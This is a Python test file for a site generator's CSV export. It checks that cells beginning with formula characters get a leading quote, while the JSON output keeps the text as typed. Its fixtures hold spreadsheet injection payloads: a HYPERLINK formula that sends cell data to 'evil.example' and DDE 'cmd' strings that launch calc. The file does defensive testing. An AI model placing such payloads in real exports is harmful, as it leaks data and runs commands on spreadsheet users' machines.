"""CSV formula injection: cells that a spreadsheet would run are neutralised with a leading ',
while data.json keeps the text exactly as typed."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from sitegen.render.opendata import FORMULA_STARTS, csv_cell

TITLES = {
    "equals": '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "fullwidth equals": "＝1+1",
    "fullwidth plus": "＋1",
    "fullwidth minus": "－1",
    "fullwidth at": "＠SUM(1)",
}


@pytest.mark.parametrize("value", [*TITLES.values(), "\r=1"], ids=[*TITLES, "cr"])
def test_formula_cells_get_a_leading_quote(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ประชุมคณะกรรมการ", "2566-03-01", " =not first", "ก=ข", "", 7])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


def test_list_cells_are_checked_after_joining():
    assert csv_cell(["=1", "b"]) == "'=1 | b"
    assert csv_cell(["a", "=1"]) == "a | =1"  # a formula must start the cell
    assert csv_cell(None) == ""


def test_every_formula_start_is_covered():
    assert FORMULA_STARTS == set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _site_with_titles(make_site, run, tmp_path) -> Path:
    actions = "".join(
        f"-- actions/2567/2024-01-{10 + i:02d}-a{i}.md --\n---\ntitle: {json.dumps(title, ensure_ascii=False)}\n"
        f"date: 2024-01-{10 + i:02d}\nitems: [E7]\n---\n"
        for i, title in enumerate(TITLES.values())
    )
    item = ("-- eit/2567/E7.md --\n---\ncode: E7\nresponsible: \"=cmd|' /C calc'!A0\"\nmeasures: [\"@SUM(1)\"]\n"
            "monitoring: [\"-รายงาน\"]\n---\n")
    code, _, err = run("build", "--as-of", "2567-06-01", content=make_site(actions + item))
    assert code == 0, err
    return tmp_path / "output/eit/2567"


def test_csv_read_back_shows_no_formula_and_json_keeps_the_text(make_site, run, tmp_path):
    year = _site_with_titles(make_site, run, tmp_path)
    with (year / "actions.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted("'" + t.strip() for t in TITLES.values())  # titles are trimmed, like every text
    with (year / "items.csv").open(encoding="utf-8-sig", newline="") as f:
        item = next(csv.DictReader(f))
    assert (item["responsible"], item["measures"], item["monitoring"]) == (
        "'=cmd|' /C calc'!A0", "'@SUM(1)", "'-รายงาน")
    data = json.loads((year / "data.json").read_text("utf-8"))
    assert sorted(a["title"] for a in data["actions"]) == sorted(t.strip() for t in TITLES.values())  # as typed
    assert data["items"][0]["responsible"] == "=cmd|' /C calc'!A0"


@pytest.mark.full  # starts LibreOffice
def test_libreoffice_reads_the_cells_as_text(make_site, run, tmp_path):
    """A real spreadsheet opens the CSV (LibreOffice, as staff would; .ci/run installs it): text, no formula."""
    if shutil.which("soffice") is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) is missing: .ci/run installs libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    import openpyxl
    year = _site_with_titles(make_site, run, tmp_path)
    out = tmp_path / "xlsx"
    # Filter options: comma, double quote, UTF-8 (76), from line 1, standard columns, …, evaluate formulas (true).
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                    "--convert-to", "xlsx", "--outdir", str(out), str(year / "actions.csv")],
                   check=True, capture_output=True, timeout=120)
    sheet = openpyxl.load_workbook(out / "actions.xlsx").active
    titles = [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    kinds = [row[3].data_type for row in sheet.iter_rows(min_row=2)]
    assert kinds == ["s"] * len(TITLES)  # text, not formulas ("f")
    assert not any(str(t).startswith(tuple("=+-@")) for t in titles)
